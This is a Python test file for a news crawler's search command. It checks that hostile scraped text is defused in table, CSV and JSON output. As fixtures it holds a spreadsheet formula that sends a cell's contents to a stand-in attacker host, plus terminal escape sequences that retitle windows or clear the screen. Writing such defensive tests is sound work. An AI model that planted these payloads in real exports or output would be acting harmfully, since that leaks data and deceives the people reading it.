"""Scraped text that attacks the analyst (issue 17, items 3 and 5), through a real crawl into real PostgreSQL
and out of `chainwatch search` in every format.

- CSV formula injection: a title `=HYPERLINK("http://…/leak?"&A2,"Click")` must reach a spreadsheet as
  text (OWASP: a leading `'`), as must cells starting with + - @, a tab or a carriage return.
- Terminal escapes: an og:title holding `&#x1b;]0;…&#x07;` (set the window title) and a body holding
  `&#x01;` must be stored without control characters (and the article stored at all); text stored before
  this fix, which still holds them, is escaped on output.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys

import pytest

from chainwatch.runners.crawl import crawl
from chainwatch.untrusted import csv_cell
from tests import factories
from tests.faults.conftest import write_site
from tests.spiders.crawl_helpers import ad_hoc_source, rss

HOST = "hostile.example"
BODY = [
    "Regulators in several countries are reviewing how exchanges screen customers for money laundering.",
    "The review follows a series of enforcement actions against trading platforms this year.",
]
FORMULA = '=HYPERLINK("http://evil.example/leak?"&A2,"Click")'
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _page(title_attr: str, title_text: str, body_extra: str) -> str:
    paragraphs = "".join(f"<p>{p}</p>" for p in [BODY[0] + body_extra, BODY[1]])
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title_text}</title>'
        f'<meta property="og:title" content="{title_attr}">'
        f'<meta property="article:published_time" content="2022-07-05T04:00:00+00:00"></head>'
        f"<body><article><h1>{title_text}</h1>{paragraphs}</article></body></html>"
    )


def run_cli(monkeypatch, capsys, *args):
    from chainwatch import cli

    monkeypatch.setattr(sys, "argv", ["chainwatch", "search", *args])
    code = 0
    try:
        cli.main()
    except SystemExit as exc:
        code = exc.code or 0
    return code, capsys.readouterr().out


@pytest.fixture()
def crawled(clean_db, tmp_path, replay_server):
    escaped = FORMULA.replace("&", "&amp;").replace('"', "&quot;")
    files = {
        f"{HOST}/robots.txt": "User-agent: *\nAllow: /\n",
        f"{HOST}/feed.xml": rss([("one", f"https://{HOST}/news/formula"), ("two", f"https://{HOST}/news/escape")]),
        f"{HOST}/news/formula": _page(escaped, escaped, " Laundering formula case."),
        f"{HOST}/news/escape": _page(
            "Laundering probe &#x1b;]0;owned&#x07; widens",
            "Laundering probe",
            " A hidden &#x01; control &#x1b;[2J character.",
        ),
    }
    srv = replay_server(write_site(tmp_path / "site", files))
    row = crawl([ad_hoc_source("hostile", HOST, [f"https://{HOST}/feed.xml"])], replay_proxy=srv.proxy_url).per_source[
        "hostile"
    ]
    assert row["items_stored"] == 2, row  # the &#x01; body was not rejected as no_text
    return clean_db


def test_crawled_control_characters_are_stripped_at_extraction(crawled, db_cursor):
    db_cursor.execute("SELECT title, text, coalesce(lead, '') FROM articles ORDER BY url")
    rows = db_cursor.fetchall()
    assert sorted(t for t, _, _ in rows) == sorted([FORMULA, "Laundering probe ]0;owned widens"])
    for title, text, lead in rows:
        assert not RAW.search(title + lead) and not RAW.search(text.replace("\n", "").replace("\t", ""))


def test_search_csv_neutralises_formulas(crawled, monkeypatch, capsys):
    code, out = run_cli(monkeypatch, capsys, "laundering", "--format", "csv")
    assert code == 0
    titles = {r["title"] for r in csv.DictReader(io.StringIO(out))}
    assert "'" + FORMULA in titles and FORMULA not in titles


def test_search_output_escapes_control_characters_already_stored(clean_db, db_cursor, monkeypatch, capsys):
    """Rows stored before extraction stripped them still hold raw controls: every format escapes them."""
    factories.add_source(db_cursor, "old")
    factories.add_article(
        db_cursor,
        source="old",
        title="Laundering \x1b]0;owned\x07 case \x9b31m red \u202etxet",
        text="Money laundering \x1b[2J body.",
        url="https://old.example/\x1b[31m",
        published=None,
    )
    for fmt in ("table", "csv", "json"):
        code, out = run_cli(monkeypatch, capsys, "laundering", "--format", fmt)
        assert code == 0
        assert not RAW.search(out.replace("\r\n", "").replace("\n", "")) and "\u202e" not in out, fmt
        assert "\\x1b]0;owned\\x07" in out if fmt != "json" else "\\u001b]0;owned\\u0007" in out
    code, out = run_cli(monkeypatch, capsys, "laundering", "--format", "json")
    assert json.loads(out)[0]["title"].startswith("Laundering \x1b]0;owned\x07")  # JSON keeps the data exact


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=x", "'\\x0d=x"),
        ("  =x", "'  =x"),
        ("plain", "plain"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_csv_cell_rules(cell, expected):
    assert csv_cell(cell) == expected
